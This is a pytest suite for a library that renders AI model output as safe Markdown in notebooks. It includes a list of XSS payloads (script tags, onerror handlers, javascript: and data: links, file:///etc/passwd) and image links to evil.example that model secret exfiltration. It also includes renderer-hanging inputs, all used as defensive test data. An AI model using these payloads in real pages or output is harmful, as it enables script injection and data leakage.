"""Model output rendered in a notebook: no active content, code stays code, dollar amounts are not math.

Rendered by a real CommonMark renderer that allows HTML, with its own link validation switched off.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hf_text import Completion, ToolCall
from hf_text.markdown import render
from hf_text.shown import as_markdown, footer

PLAIN = MarkdownIt("commonmark", {"html": True})
GITHUB = MarkdownIt("gfm-like", {"html": True})  # tables, strikethrough, bare URLs as links
RENDERERS = (PLAIN, GITHUB)
for renderer in RENDERERS:
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]

# Tags that the renderer and this library produce themselves.
OURS = {"details", "summary", "span", "code", "pre", "p", "blockquote", "ul", "ol", "li", "a", "em", "strong", "s"}
OURS |= {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}


class Page(HTMLParser):
    """The content of a rendered page: its tags with their attributes, its text, its code."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.code: list[str] = []
        self.other: list[str] = []
        self._in_code = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "code":
            self._in_code = True
            self.code.append("")

    def handle_endtag(self, tag: str) -> None:
        self._in_code = self._in_code and tag != "code"

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._in_code:
            self.code[-1] += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def can_act(page: Page) -> list[Any]:
    """The tags and attributes of a page that could be active."""
    found: list[Any] = [tag for tag in page.tags if tag[0] not in OURS]
    for name, attributes in page.tags:
        found += [
            (name, attributes) for attribute in attributes if attribute not in ("href", "class", "start", "title")
        ]
        address = re.sub(r"[\x00-\x20]", "", attributes.get("href") or "")
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", address, re.IGNORECASE)
        if scheme and scheme[0].lower() not in ("http:", "https:", "mailto:"):
            found.append((name, attributes))
    return found + page.other


def pages(text: str, reasoning: str = "") -> list[Page]:
    return [Page(renderer.render(render(text, reasoning))) for renderer in RENDERERS]


HOSTILE = [
    "<script>alert(1)</script>",
    "text <img src=x onerror=alert(1)>",
    "</details><iframe src='javascript:alert(1)'></iframe>",
    "<b\nonclick='alert(1)'>x</b>",
    "<!-- --><?php ?><![CDATA[x]]><!DOCTYPE html>",
    "<style>\n\n</style>\n<pre>\n\n<script>",
    r"\<script>alert(1)</script>",
    r"\\<script>alert(1)</script>",
    # not code
    "an open ` and\n`<script>` another",
    "`a\n- <script>`",
    "`a\n\n<script>`",
    "\\`<script>`",
    "``<script>`",
    "`<script>``",
    "a ``` b\n<script>\n```",
    "```a`b\n<script>\n```",
    "- a\n  ```\n<script>\n```",
    "1. a\n   ```\n   x\n```\n<script>",
    "- > ~~~\n~~~\n<script>\n~~~",
    "text\n    ```\n    <script>",
    "text\n    <script>",
    "- a\n\n    <script>",
    "> ```\n<script>\n> ```",
    "> a\n    <script>",
    ">" * 20 + " ```\n" + ">" * 20 + " <script>\n" + ">" * 19 + " <script>",
    "| `a | b` `<script>` |\n|---|---|\n| `c | <script>` |",
    "https://a`<script>`",
    "www.a.example`<script>`",
    "https://a&lt;``<script>``",
    "$x$`<script>",
    "$`$<script>`",
    "$x <script> y$",
    "$$\n<script>\n$$",
    '[a]: x\n"\n```\n"\n<script>\n```',
    "x\u2028```\n<script>\n```",
    "```\n\u2028```\n<script>\n```",
    "```\r```\r<script>",
    # links
    "[a](javascript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](\njavascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    r"[a](java\script:alert(1))",
    r"[a](\javascript:alert(1))",
    "[a](((javascript:alert(1))))",
    "[[a](https://x)](javascript:alert(1))",
    "[![a](https://x/y.png)](javascript:alert(1))",
    "[a](vbscript:x) [b](data:text/html,<script>) [c](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a][b]\n\n[b]:\njavascript:alert(1)",
    "[a\nb]\n\n> [a\nb]: <javascript:alert(1)>",
    "[a][]\n\n- [a]: data:text/html;base64,PHNjcmlwdD4= 'x'",
    "x[a](javascript:1)\\](javascript:2)",
    # images
    "![a](https://evil.example/?secret)",
    "![a][b]\n\n[b]: https://evil.example/x.png",
    "![a]\n\n[a]: https://evil.example/x.png",
    "!![a](data:image/svg+xml,<svg>)",
    "[![a](https://x/y.png)](https://x)",
    "![a]\\(x)![b](https://x/y.png)",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_names_and_calls_below_an_answer_are_escaped(name: str) -> None:
    answer = Completion(
        "Hi.", tool_calls=(ToolCall("1", "look", name),), model=name, provider=name, finish_reason="stop"
    )
    for renderer in RENDERERS:
        page = Page(renderer.render(as_markdown(answer, footer(answer, 0.5))))
        assert [found for found in can_act(page) if found[0] != "sub"] == []
        assert [tag for tag, _ in page.tags if tag not in ("p", "code", "sub", "span", "a")] == []
        if name.isprintable():
            assert f"look({name})" in page.text
            assert f"{name} · {name} · $0.50" in page.text


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("place", ["text", "reasoning", "quote", "item", "after text"])
def test_model_output_is_never_active(text: str, place: str) -> None:
    if place == "quote":
        text = "\n".join(f"> {line}" for line in text.split("\n"))
    elif place == "item":
        text = "- " + text.replace("\n", "\n  ")
    elif place == "after text":
        text = f"text\n{text}\n```\n<script>\n```"
    for page in pages("x", text) if place == "reasoning" else pages(text):
        assert can_act(page) == []


def test_the_scanner_finds_active_content() -> None:
    assert can_act(Page(PLAIN.render("<script>"))) == [("script", {})]
    assert can_act(Page(PLAIN.render("[a](javascript:alert&#40;1&#41;)")))
    assert can_act(Page(PLAIN.render("![a](https://x)")))


FRAGMENTS = [
    *("<evil>", "<evil x='", "</evil>", "<", ">", "<!--", "<?", "<http://a>", "<https://a`b>", "<javascript:1>"),
    *("`", "``", "```", "~~~", "````", "`<evil>`", "```\n<evil>\n```\n", "~~~\n<evil>\n~~~\n", "  ```\n  $\n  ```\n"),
    *("\n", "\n\n", "    ", "\t", " ", "\r", "\u2028", "\x0c", "\u00a0", "> ", ">", "- ", "1. ", "10) ", "# ", "---"),
    *("$", "$$", "$x$", "$x{$", "\\", "\\begin{a}", "`\\end{a}`", "\\\\(", "@@0@@", "{", "}", "{=html}"),
    *("[a](javascript:1)", "![", "[", "]", "](", "]:", "[a]: ", "[a]", "(", ")", "![c](https://x/y.png)", "[^1]: "),
    *("https://x", "www.x", "javascript:1", "javascript&colon;1", "&lt;", ":", '"', "x", "text", "1"),
    "| a | b |\n|---|---|\n",
    "|",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=30).map("".join), st.booleans())
def test_no_combination_of_fragments_is_active(text: str, thought: bool) -> None:
    for page in pages("x", text) if thought else pages(text):
        assert can_act(page) == []


class TestCode:
    """Code stays unchanged, whatever it contains."""

    CODE = "if a < b and c:\n    print('<b>', \"&amp;\", `x`)\n\n\tend(1)"

    @pytest.mark.parametrize("fence", ["```", "~~~", "`````", "```python", "~~~ python {1}", "```{python} x"])
    def test_a_fenced_block_is_kept(self, fence: str) -> None:
        mark = fence.rstrip("python {1}x")
        for page in pages(f"See:\n{fence}\n{self.CODE}\n{mark}\nThe <end>"):
            assert page.code == [f"{self.CODE}\n"]
            assert "The <end>" in page.text

    @pytest.mark.parametrize("before", ["- a\n  ", "1. a\n   ", "1. a\n   - b\n\n     ", "> ", "   ", "10.   "])
    def test_a_nested_block_is_kept(self, before: str) -> None:
        margin = re.sub(r"[^>]", " ", before.rpartition("\n")[2])
        code = self.CODE.expandtabs(4)
        lines = ["```", *code.split("\n"), "```"]
        text = before + f"\n{margin}".join(lines) + "\n\nThe <end>"
        for page in pages(text):
            assert page.code == [f"{code}\n"]
            assert "The <end>" in page.text

    def test_a_block_outdented_from_its_item_is_kept_together(self) -> None:
        for page in pages("1. ```python\ndef f():\n    return '<b>'\n```\n2. next"):
            assert page.code == ["def f():\n    return '<b>'\n"]

    @pytest.mark.parametrize("indent", ["    ", "\t"])
    def test_an_indented_block_is_kept(self, indent: str) -> None:
        for page in pages(f"Run:\n\n{indent}echo <b> ```\n\n{indent}echo $A $B\n\nThe end"):
            assert page.code == ["echo <b> ```\n\necho $A $B\n"]
            assert [name for name, _ in page.tags].count("p") == 2

    @pytest.mark.parametrize("text", ["`a < <b>`", "``a ` <b>``", "(`<b>`)", "`<b>` and `c`", "`$A` `\\begin{a}<b>`"])
    def test_a_code_span_is_kept(self, text: str) -> None:
        for page in pages(text):
            assert "<b>" in "".join(page.code)
            assert page.code == Page(PLAIN.render(text)).code

    def test_a_code_span_with_a_bar_survives_in_a_table(self) -> None:
        for page in pages("| a | b |\n|---|---|\n| `x | <y>` | z |"):
            assert page.code == ["x | <y>"]

    @pytest.mark.parametrize("fence", ["```", "~~~~", "```python\nx = 1", "1. a\n   ```", "> ```"])
    @pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
    def test_an_open_fence_in_the_reasoning_ends_with_it(self, fence: str, end: str) -> None:
        reasoning = f"Let me see:\n\n{fence}\nprint(1)\n".replace("\n", end)
        for page in pages("**Blue**", reasoning):
            assert "Blue" not in "".join(page.code)
            assert ("strong", {}) in page.tags

    def test_math_does_not_span_code_blocks(self) -> None:
        """JupyterLab searches for LaTeX environments in code too; an empty line ends the search."""
        shown = render("```\n\\begin{a}\n```\n~~~\n\\end{a}\n~~~\n```\n<b>\n```")
        assert "```\n\n~~~" in shown
        assert shown.count("<") == 1


class TestWhatStays:
    """Ordinary Markdown is unchanged."""

    @pytest.mark.parametrize(
        "text",
        [
            "# Sky\n\n**Blue** and *red*, ~~green~~\n\n---\n\n1. a\n2. b\n   - c\n\n> quoted\n> more",
            "| a | b |\n|---|:-:|\n| `c` | d |",
            "See [the docs](https://example.org/a_(b)?c=d&e=f#g 'title'), [mail](mailto:a@b.example), [here](#x).",
            "[a](./b.md) [c](d) [e](/f?g:h)\n\n<https://example.org/x?y=z>",
            "```python\nprint('$5', \"<b>\")\n```",
            "line  \nbreak\\\nagain & again &lt; 5 > 3",
            "$x$, $\\frac{1}{2}$, $$y$$",
            "$$a\n$b$\n$$",
        ],
    )
    def test_ordinary_markdown_is_unchanged(self, text: str) -> None:
        assert render(text) == text

    def test_links_keep_their_target(self) -> None:
        for page in pages("[a](https://x.example/?b=$c&d=$e), [`f`](g/h), <https://y.example>"):
            addresses = [attributes["href"] for name, attributes in page.tags if name == "a"]
            assert addresses == ["https://x.example/?b=%24c&d=%24e", "g/h", "https://y.example"]

    def test_an_image_becomes_a_link(self) -> None:
        for page in pages("![a cat](https://x.example/cat.png)"):
            assert page.text.strip() == "!a cat"
            assert ("a", {"href": "https://x.example/cat.png"}) in page.tags


class TestReasoning:
    def test_reasoning_is_collapsed_above_the_text(self) -> None:
        assert render("**Blue**", "Sky is air.") == (
            "<details><summary>Reasoning</summary>\n\n> Sky is air.\n\n</details>\n\n**Blue**"
        )

    def test_reasoning_cannot_escape_its_container(self) -> None:
        shown = render("Blue", "</details>\n\n</blockquote>\n# x")
        assert shown.count("</details>") == 1
        assert shown.count("<") == 4


class TestMoney:
    DOLLAR = "<span>&#36;</span>"

    @pytest.mark.parametrize(
        "text",
        [
            "It costs @5 to @10.",
            "Between @5-@10, or US@6",
            "@5",
            "@5 and\n@6",
            "here:\n\n@5 and @6",
            "@ 5, or 6@, or @ 7",
            "from @HOME to @PATH",
            "- @1\n- @2\n    - @3 or @4",
            "`a` costs @5 (not @6)",
            "@@",
            "```\necho $A $B\n```\n@5 to @6",
            "~~~~\n~~~\necho $A $B\n~~~~\n@5 to @6",
            "a `$A` and ``$B ` $C`` for @5",
            "the line $x^2$ for @5 each, $y$ for @6",
            "$$\nx = 5\n$$\n@5 to @6",
        ],
    )
    def test_amounts_are_not_shown_as_math(self, text: str) -> None:
        """A dollar in its own element is not paired with another one. Code and math are unchanged."""
        assert render(text.replace("@", "$")) == text.replace("@", self.DOLLAR)

    def test_an_unpaired_backtick_does_not_hide_a_dollar(self) -> None:
        for text in ("an open ` costs $5 or $6", "an open ` at $5\n\nand another ` at $6"):
            assert render(text) == text.replace("$", self.DOLLAR).replace("`", "&#96;")

    def test_an_escaped_dollar_is_shown_without_its_backslash(self) -> None:
        assert render(r"\$5 to \$10") == f"{self.DOLLAR}5 to {self.DOLLAR}10"

    def test_amounts_in_the_reasoning_are_not_math(self) -> None:
        shown = render("Blue", "$5 <b> to\n`$A $B` $10")
        assert f"\n\n> {self.DOLLAR}5 &lt;b> to\n> `$A $B` {self.DOLLAR}10\n\n</details>" in shown

    @pytest.mark.parametrize("maths", [r"\href{javascript:alert(1)}{x}", r"\require{x}", "a{", r"\url{x}"])
    def test_active_math_is_shown_as_text(self, maths: str) -> None:
        assert render(f"${maths}$") == f"{self.DOLLAR}{maths}{self.DOLLAR}"

    def test_operators_in_math_are_kept(self) -> None:
        assert render("$a<b$ and $f[a](b)$") == r"$a\lt b$ and $f[a] (b)$"


TANGLED = {
    "backticks": "`" * 64_000,
    "tildes": "~" * 64_000,
    "asterisks": "*a " * 21_000,
    "brackets": "[" * 64_000,
    "dollars": "$" * 64_000,
    "quotes in quotes": "> - " * 16_000 + "a",
    "items in items": "1. " * 21_000 + "a",
    "items further and further in": "\n".join("  " * level + "- a" for level in range(50)),
    "runs of backticks in code": "~~~\n" + "` `` ``` " * 7_000,
}


@pytest.mark.parametrize("name", TANGLED)
def test_text_that_would_hang_a_renderer_is_shown_verbatim(name: str) -> None:
    """marked takes minutes for such paragraphs, and so does JupyterLab's math search for such runs of backticks."""
    text = TANGLED[name]
    for page in pages(text):
        assert can_act(page) == []
        assert page.text.strip().replace("\n", "") in text.replace("\n", "")
        assert {tag for tag, _ in page.tags} <= {"pre", "code", "blockquote"}
    rendered = render(text)
    assert len(rendered) < 6 * len(text)
    assert "`" * 100 not in rendered


def test_thousands_of_paragraphs_are_joined_into_one_block() -> None:
    page, _ = pages("a\n\n" * 9_000 + "the end")
    assert len(page.tags) < 3_000
    assert page.code[0].endswith("the end\n")


@pytest.mark.parametrize("text", ["*" * 64_000, "*" * 64_000 + "a", "_" * 64_000 + "a", "a" + "~_" * 32_000])
def test_a_long_run_of_marks_is_looked_at_once(text: str) -> None:
    """A new search at each mark would take minutes."""
    assert html.unescape(render(text)).strip("`\n") == text


LARGE = {
    "headings": "# a\n" * 16_000,
    "underlined headings": "a\n===\n\n" * 8_000,
    "items": "- a\n" * 16_000,
    "a wide table": "|" + " a |" * 16_000 + "\n|" + "-|" * 16_000 + "\n|" + " b |" * 16_000,
    "quotes": "> a\n\n" * 12_000,
    "quotes in quotes": "".join(">" * (line % 8 + 1) + " a\n" for line in range(9_000)),
    "maths": "$$\na\n$$\n\n" * 6_400,
}


@pytest.mark.parametrize("name", LARGE)
def test_what_would_fill_a_page_with_elements_ends_as_it_is_written(name: str) -> None:
    text = LARGE[name]
    for page in pages(text):
        assert len(page.tags) < 6_000
        assert page.text.count("a") == text.count("a")


def test_a_formula_or_code_that_takes_a_browser_long_is_shown_as_it_is_written() -> None:
    maths = "x+" * 32_000
    assert render(f"${maths}$") == f"<span>&#36;</span>{maths}<span>&#36;</span>"
    code = "x = f(1)\n" * 8_000
    assert render(f"```python\n{code}```") == f"```\n{code}```"


def test_a_deep_fence_does_not_multiply_the_text() -> None:
    assert len(render(" " * 9_000 + "```\n" + "a\n" * 9_000)) < 100_000


@pytest.mark.parametrize(
    "marks",
    ["*a ", "_a ", "a_", "**a ", "~~a ", "$", "|*a *b\n", "x\n2. *a *b\n", "     - *a *b\n", "> *a *b *c\n\n> *a\n"],
)
def test_unpaired_marks_are_shown_verbatim(marks: str) -> None:
    text = "x\n" + marks * (64_000 // len(marks))
    assert any(page.code for page in pages(text))


def test_an_invalid_table_is_one_paragraph() -> None:
    rows = "*a | *b\n" * 2_000
    assert pages(f"a|b\n-|-\n{rows}")[0].code == []
    assert pages(f"a|b\n-|-|-\n{rows}")[0].code != []


def test_thousands_of_combining_marks_are_spread_over_letters() -> None:
    rendered = render("e" + "\u0301" * 64_000)
    assert "\u0301" * 9 not in rendered
    assert rendered.count("\u0301") == 64_000


LONG = {
    "a table of 200 rows": "| Name | Value | Note |\n|---|---|---|\n"
    + "| item_x | **1** | `x_1` [a](https://e.com/1) |\n" * 200,
    "the same without pipes around": "Name | Value\n---|---\n" + "item_x | **1** `x` [a](https://e.com/1)\n" * 200,
    "a wide table": "|a" * 40 + "|\n" + "|---" * 40 + "|\n" + ("| *1* " * 40 + "|\n") * 30,
    "a list of 300 items": "- **Point** see [this](https://e.com/1) and `code`\n  - _More_ on it\n" * 300,
    "a numbered list": "".join(f"{n}. **Point** see [this](https://e.com/1), `code`\n   more\n" for n in range(1, 300)),
    "a paragraph full of maths": r"Let $\alpha_{1}^{2} + \frac{a_{i}}{b^{j}} = \sum_{k=1}^{n} x_{k}^{2}$ and " * 60,
    "a paragraph full of code": "Use `foo_bar` and `baz` with **care**. " * 100,
    "a paragraph full of sources": "It is so [1](https://e.com/1), and " * 150,
    "2,000 lines with code": "## Part\n\nIt is **bold**.\n\n```python\ndef f(x):\n    pass\n```\n\n- one\n- two\n\n"
    * 170,
    "a poem": "a line of a poem that goes on\n" * 1_500,
}


@pytest.mark.parametrize("name", LONG)
def test_a_long_answer_is_rendered_normally(name: str) -> None:
    assert render(LONG[name]) == LONG[name]
